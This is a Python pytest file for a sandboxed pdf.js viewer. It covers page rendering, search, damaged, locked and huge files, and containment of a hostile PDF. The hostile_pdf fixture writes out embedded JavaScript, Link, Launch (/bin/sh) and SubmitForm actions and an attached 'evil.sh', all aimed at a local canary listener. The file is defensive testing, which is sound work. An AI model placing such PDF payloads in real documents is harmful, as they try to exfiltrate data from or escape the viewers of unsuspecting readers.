"""PDFs drawn by pdf.js in an opaque frame: pages, colours, words; a hostile one reaches nothing."""

from __future__ import annotations

import io
import socket
import threading
import zlib

import numpy as np
import pytest

PAGES = 200
RED, GREEN, BLUE, WHITE = (255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)


def pdf_of(objects, trailer=b""):
    """Return a PDF of numbered objects, the first of which is its catalogue."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for number, item in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
    start = out.tell()
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R%s>>\n" % (size, table, size, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def stream(data, entries=b""):
    packed = zlib.compress(data)
    return b"<</Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (len(packed), entries, packed)


def long_pdf():
    """200 pages of 200 × 100 points: the lower left quarter red on odd, green on even ones, a line of text each."""
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    numbers = range(4, 4 + 2 * PAGES, 2)
    kids = b" ".join(b"%d 0 R" % number for number in numbers)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, PAGES), font]
    for index, number in enumerate(numbers, 1):
        turned = b"/Rotate 90" if index == 3 else b""
        page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]%s/Contents %d 0 R/Resources<</Font<</F 3 0 R>>>>>>"
        colour = b"1 0 0" if index % 2 else b"0 1 0"
        text = b"%s rg 0 0 100 50 re f 0 g BT /F 12 Tf 20 70 Td (sheet %d of words) Tj ET" % (colour, index)
        objects += [page % (turned, number + 1), stream(text)]
    return pdf_of(objects)


def hostile_pdf(port):
    """A blue page that works, whose actions, links, form, attachment and scripts try to get out."""
    out = b"http://127.0.0.1:%d" % port
    script = b"app.launchURL('%s/js'); this.submitForm('%s/form'); parent.document.body.dataset.pwned = 1" % (out, out)
    action = b"<</S/JavaScript/JS(%s)>>" % script.replace(b"(", b"\\(").replace(b")", b"\\)")
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(%s/link)>>>>" % out
    launch = b"<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/Launch/F(/bin/sh)>>/AA<</E<</S/URI/URI(%s/aa)>>>>>>"
    submit = b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>" % out
    names = b"/Names<</JavaScript<</Names[(a) 5 0 R]>>/EmbeddedFiles<</Names[(evil.sh) 6 0 R]>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Annots[%s %s]/AA<</O %s>>>>"
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R%s/AA<</WC 5 0 R>>/URI<</Base(%s/)>>>>" % (names, out),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page % (link, launch % out, submit),
            stream(b"0 0 1 rg 0 0 200 100 re f"),
            action,
            b"<</Type/Filespec/F(evil.sh)/EF<</F 7 0 R>>>>",
            stream(b"touch pwned", b"/Type/EmbeddedFile"),
        ]
    )


def locked_pdf():
    """Return a PDF whose key no empty password gives."""
    lock = b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"12" * 32, b"34" * 32)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page], lock)


class Canary:
    """A listener that counts the connections to it."""

    def __init__(self):
        self.heard = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                self._listener.accept()[0].close()
            except OSError:
                return
            self.heard += 1

    def close(self):
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


@pytest.fixture(scope="module")
def canary():
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture(scope="module")
def pdf_viewer(start_viewer, tmp_path_factory, canary):
    folder = tmp_path_factory.mktemp("pdf") / "papers"
    folder.mkdir()
    (folder / "long.pdf").write_bytes(long_pdf())
    (folder / "hostile.pdf").write_bytes(hostile_pdf(canary.port))
    (folder / "damaged.pdf").write_bytes(b"%PDF-1.4\n\xff\xfenothing follows")
    (folder / "locked.pdf").write_bytes(locked_pdf())
    padding = b"<</Length %d>>stream\n%s\nendstream" % (65 << 20, bytes(65 << 20))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R>>"
    pages = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page]
    (folder / "huge.pdf").write_bytes(pdf_of([*pages, stream(b"0 1 0 rg 0 0 200 100 re f"), padding]))
    return start_viewer(folder)


@pytest.fixture
def page(new_page, pdf_viewer):
    return new_page(pdf_viewer)


def entry(name, more=""):
    return f"/entry?ref=papers&path={name}{more}"


def sheet(page, number):
    """Wait until a page is painted; return its picture."""
    page.locator(f".stage[data-page='{number}']").wait_for()
    box = page.frame_locator("iframe").get_by_role("img", name=f"Page {number}", exact=True)
    box.locator("canvas").wait_for()
    return page.pixels(box)


def colour_at(picture, x, y):
    """Return the colour at parts of the sides of a picture."""
    height, width = picture.shape[:2]
    return tuple(picture[int(height * y), int(width * x)])


def test_pages_are_drawn_found_and_kept_in_the_address(page):
    page.show(entry("long.pdf"), ".stage[data-ready=page]")
    stage = page.locator(".stage")
    assert stage.get_attribute("data-pages") == str(PAGES)
    first = sheet(page, 1)
    assert first.shape[1] / first.shape[0] == pytest.approx(2, abs=0.02)
    assert [colour_at(first, *place) for place in ((0.25, 0.9), (0.75, 0.9), (0.75, 0.2))] == [RED, WHITE, WHITE]
    assert (first[: first.shape[0] // 2, : first.shape[1] // 2] < 128).all(axis=2).any()  # letters

    page.get_by_role("button", name="Next page").click()
    assert colour_at(sheet(page, 2), 0.25, 0.9) == GREEN
    page.keyboard.press("PageDown")
    page.get_by_role("button", name="Fit page").click()
    page.wait_for_url("**zoom=page**")
    turned = sheet(page, 3)  # a quarter to the right: what was below is on the left
    assert turned.shape[0] > turned.shape[1]
    assert [colour_at(turned, *place) for place in ((0.25, 0.25), (0.75, 0.9))] == [RED, WHITE]

    page.get_by_label("Find in the PDF").fill("SHEET 150 of")
    page.keyboard.press("Enter")
    page.locator(".stage[data-found='1 1']").wait_for()
    assert "page=150" in page.url
    mark = page.frame_locator("iframe").locator(".found.here")
    mark.wait_for()
    assert colour_at(sheet(page, 150), 0.25, 0.9) == GREEN
    kept = page.frame_locator("iframe").locator("canvas").count()
    assert 1 <= kept <= 8

    page.show(page.url.removeprefix(page.viewer.base), ".stage[data-ready=page]")
    sheet(page, 150)
    assert page.get_by_role("button", name="Fit page").get_attribute("aria-pressed") == "true"
    page.show(entry("long.pdf", "&page=999&zoom=big"), ".stage[data-ready=page]")
    sheet(page, 1)
    text = page.locator(".pill.counts").text_content()
    assert "zoom=big, page=999 was ignored" in text


def test_a_damaged_or_locked_pdf_says_so_and_offers_the_file(page):
    page.show(entry("damaged.pdf"), ".stage[data-error]")
    message = page.get_by_role("alert").filter(has_text="damaged")
    with page.expect_download() as saved:
        message.get_by_role("link", name="Save the file").click()
    assert saved.value.suggested_filename == "damaged.pdf"
    assert not page.get_by_role("button", name="Next page").is_visible()
    page.show(entry("locked.pdf"), ".stage[data-error]")
    assert "protected by a password" in page.get_by_role("alert").text_content()


def test_a_huge_pdf_is_drawn_when_asked_for(page):
    page.show(entry("huge.pdf"), ".stage[data-ready=held]")
    assert page.locator("iframe").count() == 0
    page.get_by_role("button", name="Draw all of it").click()
    page.locator(".stage[data-ready=page]").wait_for()
    assert colour_at(sheet(page, 1), 0.5, 0.5) == GREEN


def test_a_hostile_pdf_is_painted_and_reaches_nothing(page, canary):
    asked, saved = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("download", lambda download: saved.append(download.url))
    page.show(entry("hostile.pdf"), ".stage[data-ready=page]")
    picture = sheet(page, 1)
    assert np.all(picture[5:-5, 5:-5] == BLUE)
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    inner = page.frame_locator("iframe")
    assert inner.locator("a, input, form, iframe, object").count() == 0
    before = len(asked)
    inner.locator("canvas").click()
    page.keyboard.press("Enter")
    page.wait_for_timeout(800)
    assert asked[before:] == []
    assert page.seen == []
    page.excuse("connect-src|Content Security Policy")  # what the browser says of the next try, which is ours
    frame = page.locator("iframe").element_handle().content_frame()
    assert frame.evaluate("origin") == "null"
    assert frame.evaluate(f"fetch('http://127.0.0.1:{canary.port}/').then(() => 'left', () => 'held')") == "held"
    assert canary.heard == 0
    assert saved == []
    assert page.evaluate("document.body.dataset.pwned") is None
    assert page.context.pages == [page]
